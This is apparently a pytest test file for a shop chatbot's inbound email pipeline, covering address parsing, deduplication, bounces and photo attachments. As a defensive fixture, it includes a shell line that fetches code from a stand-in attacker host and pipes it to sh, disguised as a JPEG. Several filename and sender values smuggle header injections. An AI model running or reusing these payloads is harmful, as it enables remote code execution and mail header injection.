"""Inbound mail without the web: reading forms and MIME, the conversation's addresses, and the
mailbox's routing over a real store database (the chat's turn is the conversations' own storing),
with the photos of a reply kept through the real preparation and conversation photos."""

from __future__ import annotations

import asyncio
from collections.abc import Sequence
from email.message import EmailMessage
from pathlib import Path

import pytest
from sqlalchemy import func, select
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from bot.chat.conversations import ChatSession, ConversationService, NewMessage, StoredMessage
from bot.core.models import EmailInbound, Photo
from bot.email.inbound import InboundMail, InboundMailbox, InboundRefused, mail_from_form, mail_from_raw
from bot.email.reply_addresses import BOUNCE, REPLY, conversation_address
from bot.email.reply_photos import MailAttachment, ReplyPhotos
from bot.email.suppressions import is_suppressed
from bot.photos.conversation_photos import ConversationPhotos, photo_json
from bot.photos.storage import DatabaseStorage, DiskStorage, PhotoStorage
from bot.web.turns import MAX_PHOTOS_PER_MESSAGE
from tests.email.test_bounces import PLAIN_BOUNCE, dsn
from tests.photos.sample_images import has_gps, image_bytes, with_gps_and_orientation
from tests.web.test_email_webhooks import ALEX, BOUNCE_TO, REPLY_DOMAIN, REPLY_TO, STORE, TOKEN, conversation_with_token

#: A shell script named and declared as a JPEG: tried as a photo, refused by its bytes.
SCRIPT_AS_JPEG = b"#!/bin/sh\ncurl -s http://attacker.example/x | sh\n"
#: The quote a mail program puts under a reply: with nothing above it, the reply has no new words.
QUOTE_ONLY = f"On Mon, Nov 30, 2026 at 8:01 PM Yangteng Auto <{REPLY_TO}> wrote:\n> Please send photos of the damage.\n"


def test_a_conversations_addresses_are_recognised_and_nothing_else() -> None:
    reply = conversation_address(f"Reply+{TOKEN.upper()}@{REPLY_DOMAIN.upper()}")
    assert reply is not None and (reply.kind, reply.token, reply.domain) == (REPLY, TOKEN, REPLY_DOMAIN)
    bounce = conversation_address(BOUNCE_TO)
    assert bounce is not None and bounce.kind == BOUNCE
    for other in (
        f"support@{REPLY_DOMAIN}",
        f"reply@{REPLY_DOMAIN}",
        f"reply+@{REPLY_DOMAIN}",
        f"reply+short@{REPLY_DOMAIN}",
        f"reply+{TOKEN}1@{REPLY_DOMAIN}",  # 1 is no base32 letter
        f"forward+{TOKEN}@{REPLY_DOMAIN}",
        f"reply+{'a' * 65}@{REPLY_DOMAIN}",
    ):
        assert conversation_address(other) is None, other


def test_a_form_is_read_and_its_addresses_checked() -> None:
    mail = mail_from_form(
        {
            "from": f'"Doe, Alex" <{ALEX}>',
            "to": f"Yangteng Auto <{REPLY_TO}>, other@example.net",
            "cc": "cc@example.net",
            "subject": "Re: order",
            "text": "hello",
            "headers": "Message-ID: <m1@example.com>\r\nSubject: Re: order\r\n",
            "SPF": "pass",
        },
        ["env@example.net"],
    )
    assert mail.sender == ALEX and mail.message_id == "<m1@example.com>" and mail.verdicts == {"SPF": "pass"}
    assert mail.recipients == (REPLY_TO, "other@example.net", "cc@example.net", "env@example.net")
    for sender in (f"{ALEX}\r\nBcc: x@example.net", f"{ALEX}, mallory@example.net", "alex", "a@b@example.com", "<>"):
        with pytest.raises(InboundRefused) as refused:
            mail_from_form({"from": sender, "to": REPLY_TO, "text": "hi"})
        assert refused.value.code == "email_inbound_address_invalid", sender


def test_a_raw_mail_gives_its_text_html_and_message_id() -> None:
    raw = (
        f"From: Alex <{ALEX}>\r\nTo: {REPLY_TO}\r\nSubject: =?utf-8?q?R=C3=A9?=\r\nMessage-ID: <raw@example.com>\r\n"
        'MIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary="A"\r\n\r\n'
        "--A\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\nD=C3=A9j=C3=A0 vu\r\n"
        "--A\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>Déjà vu</p>\r\n--A--\r\n"
    ).encode()
    mail = mail_from_raw(raw, [BOUNCE_TO])
    assert (mail.sender, mail.subject, mail.message_id) == (ALEX, "Ré", "<raw@example.com>")
    assert mail.text is not None and mail.text.strip() == "Déjà vu" and mail.html is not None and "<p>" in mail.html
    assert mail.recipients == (REPLY_TO, BOUNCE_TO)
    with pytest.raises(InboundRefused):
        mail_from_raw(b"Subject: no sender\r\n\r\nhi")
    with pytest.raises(InboundRefused):
        mail_from_raw(f"From: {ALEX}\r\n\r\nno recipient".encode())


def test_a_mail_without_message_id_is_known_by_its_content() -> None:
    one = InboundMail(ALEX, (REPLY_TO,), "s", "text")
    assert one.dedupe_key() == InboundMail(ALEX, (REPLY_TO,), "s", "text").dedupe_key()
    assert one.dedupe_key() != InboundMail(ALEX, (REPLY_TO,), "s", "other").dedupe_key()


class Turns:
    """The chat's turn as far as storing goes: the shopper's words with their photos (attached as the
    chat's turn attaches them), then one answer."""

    def __init__(self, sessions: async_sessionmaker[AsyncSession], photos: ConversationPhotos | None = None) -> None:
        self.conversations = ConversationService(sessions)
        self.photos = photos or ConversationPhotos(sessions, DatabaseStorage(sessions))
        self.texts: list[str] = []
        self.photo_ids: list[tuple[str, ...]] = []

    async def take(self, chat: ChatSession, text: str, photo_ids: Sequence[str] = ()) -> list[StoredMessage]:
        self.texts.append(text)
        self.photo_ids.append(tuple(photo_ids))
        await asyncio.sleep(0.01)  # let deliveries of the same mail race
        attachment = None
        if photo_ids:
            sent = await self.photos.unsent(chat.store_id, chat.conversation_id, photo_ids)
            attachment = {"type": "photos", "photos": [photo_json(photo) for photo in sent]}
        stored = await self.conversations.append(
            chat, [NewMessage("shopper", text, attachment=attachment), NewMessage("bot", "Noted.")]
        )
        if photo_ids:
            await self.photos.attach_to_message(chat.store_id, chat.conversation_id, stored[0].seq, photo_ids)
        return stored


def mailbox(
    sessions: async_sessionmaker[AsyncSession], turns: Turns, per_day: int = 30, storage: PhotoStorage | None = None
) -> InboundMailbox:
    """The mailbox with the real photo checks: the gateway's decode bound and the chat's per-message limit."""
    photos = ConversationPhotos(sessions, storage or DatabaseStorage(sessions), per_day)
    turns.photos = photos
    reply_photos = ReplyPhotos(photos, asyncio.Semaphore(2), MAX_PHOTOS_PER_MESSAGE)
    return InboundMailbox(sessions, turns.take, None, lambda _: 0, REPLY_DOMAIN, reply_photos)


def reply(message_id: str = "<same@example.com>", text: str = "Is it waterproof?") -> InboundMail:
    return InboundMail(ALEX, (REPLY_TO,), "Re: order", text, message_id=message_id)


async def test_racing_deliveries_of_one_mail_take_one_turn(demo_sessions: async_sessionmaker[AsyncSession]) -> None:
    await conversation_with_token(demo_sessions)
    turns = Turns(demo_sessions)
    box = mailbox(demo_sessions, turns)
    outcomes = await asyncio.gather(*(box.take(reply()) for _ in range(4)))
    assert sorted(outcome.result for outcome in outcomes) == ["duplicate", "duplicate", "duplicate", "stored"]
    assert turns.texts == ["Is it waterproof?"]
    async with demo_sessions() as session:
        assert await session.scalar(select(func.count()).select_from(EmailInbound)) == 1


async def test_a_refused_turn_leaves_the_mail_untaken(demo_sessions: async_sessionmaker[AsyncSession]) -> None:
    await conversation_with_token(demo_sessions)

    async def refusing(chat: ChatSession, text: str, photo_ids: Sequence[str]) -> list[StoredMessage]:
        raise InboundRefused("email_reply_empty", status=422)

    box = InboundMailbox(demo_sessions, refusing, None, lambda _: 0, REPLY_DOMAIN)
    with pytest.raises(InboundRefused):
        await box.take(reply())
    async with demo_sessions() as session:
        assert await session.scalar(select(func.count()).select_from(EmailInbound)) == 0
    # Retried once the chat takes it: taken then.
    assert (await mailbox(demo_sessions, Turns(demo_sessions)).take(reply())).result == "stored"


async def test_reports_at_either_address(demo_sessions: async_sessionmaker[AsyncSession]) -> None:
    await conversation_with_token(demo_sessions)
    turns = Turns(demo_sessions)
    box = mailbox(demo_sessions, turns)
    # A person's mail to the bounce address is dropped, never a turn.
    assert (await box.take(InboundMail(ALEX, (BOUNCE_TO,), "hi", "hello"))).result == "ignored"
    # A bounce about someone else changes nothing.
    other = mail_from_raw(dsn("5.1.1", recipient="someone@example.org"))
    assert (await box.take(other)).result == "ignored"
    async with demo_sessions() as session:
        assert not await is_suppressed(session, STORE, ALEX)
    # A mailer-daemon's plain bounce sent back to the reply address still counts.
    plain = mail_from_raw(PLAIN_BOUNCE.replace(BOUNCE_TO.encode(), REPLY_TO.encode()))
    assert (await box.take(plain)).result == "bounced"
    async with demo_sessions() as session:
        assert await is_suppressed(session, STORE, ALEX)
    assert turns.texts == []


async def test_an_address_is_known_only_for_a_conversation_at_its_domain(
    demo_sessions: async_sessionmaker[AsyncSession],
) -> None:
    await conversation_with_token(demo_sessions)
    box = mailbox(demo_sessions, Turns(demo_sessions))
    assert await box.knows(REPLY_TO) and await box.knows(BOUNCE_TO)
    assert not await box.knows(f"reply+{TOKEN}@elsewhere.example")
    assert not await box.knows(f"reply+{'b' * 24}@{REPLY_DOMAIN}")
    assert not await box.knows("postmaster@" + REPLY_DOMAIN)


def reply_with_files(
    files: Sequence[tuple[str, str, bytes]],
    text: str = "The box was crushed, photos attached.",
    message_id: str = "<photos@example.com>",
    disposition: str = "attachment",
) -> bytes:
    """A shopper's reply as their mail program sends it: the words, then each (name, type, bytes) file."""
    mail = EmailMessage()
    mail["From"] = f"Alex Doe <{ALEX}>"
    mail["To"] = REPLY_TO
    mail["Subject"] = "Re: Your order"
    mail["Message-ID"] = message_id
    mail.set_content(text)
    for filename, content_type, data in files:
        maintype, subtype = content_type.split("/")
        mail.add_attachment(data, maintype=maintype, subtype=subtype, filename=filename, disposition=disposition)
    return mail.as_bytes()


def two_photos() -> list[tuple[str, str, bytes]]:
    return [
        ("IMG_0001.JPG", "image/jpeg", with_gps_and_orientation("JPEG")),
        ("label.jpg", "image/jpeg", image_bytes("JPEG", (640, 480))),
    ]


async def photo_count(sessions: async_sessionmaker[AsyncSession]) -> int:
    async with sessions() as session:
        return int(await session.scalar(select(func.count()).select_from(Photo)) or 0)


async def transcript(sessions: async_sessionmaker[AsyncSession], chat: ChatSession) -> list[StoredMessage]:
    return await ConversationService(sessions).messages_after(chat)


def test_a_raw_mails_files_that_may_be_photos_are_found_in_its_order() -> None:
    forwarded = EmailMessage()
    forwarded["Subject"] = "a forwarded mail"
    forwarded.set_content("its own picture")
    forwarded.add_attachment(b"\xff\xd8\xff forwarded", maintype="image", subtype="jpeg", filename="theirs.jpg")
    raw = reply_with_files(
        [
            ("a.jpg", "image/jpeg", b"\xff\xd8\xff a"),
            ("manual.pdf", "application/pdf", b"%PDF-1.4"),
            ("c.bin", "application/octet-stream", b"c"),
            ("notes.txt", "text/plain", b"notes"),
            ("\u202egpj.exe\r\nBcc: x", "image/png", b"d"),
            ("https://attacker.example/login", "image/png", b"e"),
        ]
    )
    mail = mail_from_raw(raw)
    with_forward = EmailMessage()
    with_forward["From"], with_forward["To"] = ALEX, REPLY_TO
    with_forward.set_content("see below")
    with_forward.add_attachment(forwarded)
    # Declared image/* or octet-stream is what is tried (the bytes judge later); a PDF, a text
    # file and the files of a mail attached to the reply are not.
    assert [(file.filename, file.data) for file in mail.attachments] == [
        ("a.jpg", b"\xff\xd8\xff a"),
        ("c.bin", b"c"),
        ("gpj.exe Bcc: x", b"d"),  # the name is shown back: no line breaks, no right-to-left override,
        ("https:__attacker.example_login", b"e"),  # and never as a link in the store's words
    ]
    assert mail.text is not None and mail.text.strip() == "The box was crushed, photos attached."
    assert mail_from_raw(with_forward.as_bytes()).attachments == ()
    inline = mail_from_raw(reply_with_files([("i.png", "image/png", b"i")], disposition="inline"))
    assert [file.filename for file in inline.attachments] == ["i.png"]
    form = mail_from_form({"from": ALEX, "to": REPLY_TO}, attachments=[MailAttachment("f.jpg", b"f")])
    assert form.attachments == (MailAttachment("f.jpg", b"f"),)


def test_mails_of_files_alone_without_message_id_differ_by_their_files() -> None:
    one = InboundMail(ALEX, (REPLY_TO,), "s", "", attachments=(MailAttachment("a.jpg", b"one"),))
    other = InboundMail(ALEX, (REPLY_TO,), "s", "", attachments=(MailAttachment("a.jpg", b"two"),))
    assert one.dedupe_key() != other.dedupe_key()
    assert InboundMail(ALEX, (REPLY_TO,), "s", "").dedupe_key() != one.dedupe_key()


async def test_a_reply_with_two_photos_is_one_message_carrying_both_without_gps(
    demo_sessions: async_sessionmaker[AsyncSession],
) -> None:
    chat = await conversation_with_token(demo_sessions)
    turns = Turns(demo_sessions)
    box = mailbox(demo_sessions, turns)
    assert has_gps(with_gps_and_orientation("JPEG"))
    outcome = await box.take(mail_from_raw(reply_with_files(two_photos())))
    assert outcome.result == "stored"
    said = await transcript(demo_sessions, chat)
    assert [(message.sender, message.text) for message in said] == [
        ("shopper", "The box was crushed, photos attached."),
        ("bot", "Noted."),
    ]
    assert said[0].attachment is not None and said[0].attachment["type"] == "photos"
    shown = said[0].attachment["photos"]
    # In the mail's order; the first is upright (EXIF orientation 6 applied: 200 x 100 turned to 100 x 200).
    assert [(photo["width"], photo["height"]) for photo in shown] == [(100, 200), (640, 480)]
    assert turns.photo_ids == [tuple(photo["id"] for photo in shown)]
    for photo in shown:
        for variant in ("full", "thumbnail"):
            kept = await turns.photos.image(photo["id"], variant, store_ids={STORE}, conversation_id=None)
            assert kept is not None and kept.startswith(b"\xff\xd8\xff") and not has_gps(kept)
    async with demo_sessions() as session:
        rows = list(await session.scalars(select(Photo)))
    assert len(rows) == 2 and all(row.message_id is not None and row.sender == "shopper" for row in rows)


async def test_a_file_that_is_no_image_is_not_taken_and_the_shopper_is_told(
    demo_sessions: async_sessionmaker[AsyncSession],
) -> None:
    chat = await conversation_with_token(demo_sessions)
    turns = Turns(demo_sessions)
    files = [
        ("damage.jpg", "image/jpeg", SCRIPT_AS_JPEG),
        ("invoice.pdf", "application/pdf", b"%PDF-1.4"),
        ("box.png", "image/png", image_bytes("PNG", (300, 200))),
    ]
    outcome = await mailbox(demo_sessions, turns).take(mail_from_raw(reply_with_files(files)))
    assert outcome.result == "stored"
    said = await transcript(demo_sessions, chat)
    # The words and the real photo are taken; the script is not, and the store says so (the PDF is
    # no photo anyone sent as one: not mentioned).
    assert [(message.sender, message.text) for message in said] == [
        ("shopper", "The box was crushed, photos attached."),
        ("bot", "Noted."),
        (
            "store",
            "1 attachment of your email could not be added to this conversation:\n"
            '- "damage.jpg": the file is not an image; send a JPEG, PNG, WebP or HEIC photo.',
        ),
    ]
    assert said[0].attachment is not None and len(said[0].attachment["photos"]) == 1
    assert [message.seq for message in outcome.messages] == [message.seq for message in said]
    assert await photo_count(demo_sessions) == 1


async def test_a_reply_of_photos_alone_is_taken(demo_sessions: async_sessionmaker[AsyncSession]) -> None:
    chat = await conversation_with_token(demo_sessions)
    turns = Turns(demo_sessions)
    raw = reply_with_files([("box.png", "image/png", image_bytes("PNG", (300, 200)))], text=QUOTE_ONLY)
    assert (await mailbox(demo_sessions, turns).take(mail_from_raw(raw))).result == "stored"
    said = await transcript(demo_sessions, chat)
    assert [(message.sender, message.text) for message in said] == [("shopper", ""), ("bot", "Noted.")]
    assert said[0].attachment is not None and len(said[0].attachment["photos"]) == 1
    # With no files either, it is refused as before, and nothing is stored.
    with pytest.raises(InboundRefused) as refused:
        await mailbox(demo_sessions, turns).take(mail_from_raw(reply_with_files([], QUOTE_ONLY, "<empty@example.com>")))
    assert refused.value.code == "email_reply_empty"
    assert len(await transcript(demo_sessions, chat)) == 2


async def test_a_reply_of_refused_files_alone_stores_only_the_notice(
    demo_sessions: async_sessionmaker[AsyncSession],
) -> None:
    chat = await conversation_with_token(demo_sessions)
    turns = Turns(demo_sessions)
    raw = reply_with_files([("damage.jpg", "image/jpeg", SCRIPT_AS_JPEG)], text=QUOTE_ONLY)
    outcome = await mailbox(demo_sessions, turns).take(mail_from_raw(raw))
    assert outcome.result == "photos_refused"
    assert turns.texts == []  # nothing for the chat's turn: no words, no photo
    said = await transcript(demo_sessions, chat)
    assert [message.sender for message in said] == ["store"] and '"damage.jpg"' in said[0].text
    # Told once: the same mail again is a duplicate.
    assert (await mailbox(demo_sessions, turns).take(mail_from_raw(raw))).result == "duplicate"
    assert len(await transcript(demo_sessions, chat)) == 1


async def test_deliveries_of_one_mail_with_photos_keep_its_photos_once(
    demo_sessions: async_sessionmaker[AsyncSession],
) -> None:
    chat = await conversation_with_token(demo_sessions)
    turns = Turns(demo_sessions)
    box = mailbox(demo_sessions, turns)
    raw = reply_with_files(two_photos())
    outcomes = await asyncio.gather(*(box.take(mail_from_raw(raw)) for _ in range(3)))
    assert sorted(outcome.result for outcome in outcomes) == ["duplicate", "duplicate", "stored"]
    assert (await box.take(mail_from_raw(raw))).result == "duplicate"  # a retry later on
    assert await photo_count(demo_sessions) == 2
    assert [message.sender for message in await transcript(demo_sessions, chat)] == ["shopper", "bot"]


async def test_a_failed_turn_keeps_none_of_the_photos_and_a_retry_takes_them(
    demo_sessions: async_sessionmaker[AsyncSession],
) -> None:
    chat = await conversation_with_token(demo_sessions)
    photos = ConversationPhotos(demo_sessions, DatabaseStorage(demo_sessions))
    seen: list[tuple[str, ...]] = []

    async def failing(chat: ChatSession, text: str, photo_ids: Sequence[str]) -> list[StoredMessage]:
        seen.append(tuple(photo_ids))
        raise ConnectionError("the database went away")

    box = InboundMailbox(
        demo_sessions, failing, None, lambda _: 0, REPLY_DOMAIN, ReplyPhotos(photos, asyncio.Semaphore(1), 5)
    )
    raw = reply_with_files(two_photos())
    with pytest.raises(ConnectionError):
        await box.take(mail_from_raw(raw))
    assert len(seen) == 1 and len(seen[0]) == 2  # the photos were kept for the turn...
    assert await photo_count(demo_sessions) == 0  # ...and deleted with it, bytes too
    for photo_id in seen[0]:
        assert await photos.image(photo_id, "full", store_ids={STORE}, conversation_id=None) is None
    async with demo_sessions() as session:
        assert await session.scalar(select(func.count()).select_from(EmailInbound)) == 0
    assert (await mailbox(demo_sessions, Turns(demo_sessions)).take(mail_from_raw(raw))).result == "stored"
    assert await photo_count(demo_sessions) == 2
    assert [message.sender for message in await transcript(demo_sessions, chat)] == ["shopper", "bot"]


async def test_a_reply_carries_at_most_a_messages_photos_within_the_daily_limit(
    demo_sessions: async_sessionmaker[AsyncSession],
) -> None:
    chat = await conversation_with_token(demo_sessions)
    files = [(f"p{n}.jpg", "image/jpeg", image_bytes("JPEG", (64, 48))) for n in range(MAX_PHOTOS_PER_MESSAGE + 2)]
    turns = Turns(demo_sessions)
    await mailbox(demo_sessions, turns).take(mail_from_raw(reply_with_files(files)))
    said = await transcript(demo_sessions, chat)
    assert said[0].attachment is not None and len(said[0].attachment["photos"]) == MAX_PHOTOS_PER_MESSAGE
    assert said[-1].sender == "store" and said[-1].text == (
        "2 attachments of your email could not be added to this conversation:\n"
        f'- "p5.jpg", "p6.jpg": a message can carry at most {MAX_PHOTOS_PER_MESSAGE} photos.'
    )
    # The conversation's daily limit holds for emailed photos as for uploaded ones.
    limited = mailbox(demo_sessions, turns, per_day=MAX_PHOTOS_PER_MESSAGE + 1)
    await limited.take(mail_from_raw(reply_with_files(files[:3], message_id="<more@example.com>")))
    said = await transcript(demo_sessions, chat)
    assert said[-3].attachment is not None and len(said[-3].attachment["photos"]) == 1
    assert said[-1].text == (
        "2 attachments of your email could not be added to this conversation:\n"
        f'- "p1.jpg", "p2.jpg": this conversation has reached its {MAX_PHOTOS_PER_MESSAGE + 1} photos for today; '
        "try again tomorrow."
    )
    assert await photo_count(demo_sessions) == MAX_PHOTOS_PER_MESSAGE + 1


async def test_a_photo_storage_that_is_down_gives_the_mail_back_for_a_retry(
    demo_sessions: async_sessionmaker[AsyncSession], tmp_path: Path
) -> None:
    chat = await conversation_with_token(demo_sessions)
    blocked = tmp_path / "not-a-folder"
    blocked.write_text("a file where the photo folder should be")
    turns = Turns(demo_sessions)
    raw = reply_with_files(two_photos())
    with pytest.raises(InboundRefused) as refused:
        await mailbox(demo_sessions, turns, storage=DiskStorage(blocked)).take(mail_from_raw(raw))
    # Temporary, and nothing kept: no turn, no photo, no claim (a good file is never "not taken").
    assert (refused.value.code, refused.value.status) == ("photo_storage_unavailable", 503)
    assert turns.texts == [] and await transcript(demo_sessions, chat) == []
    assert await photo_count(demo_sessions) == 0
    async with demo_sessions() as session:
        assert await session.scalar(select(func.count()).select_from(EmailInbound)) == 0
    assert (await mailbox(demo_sessions, turns).take(mail_from_raw(raw))).result == "stored"
    assert await photo_count(demo_sessions) == 2
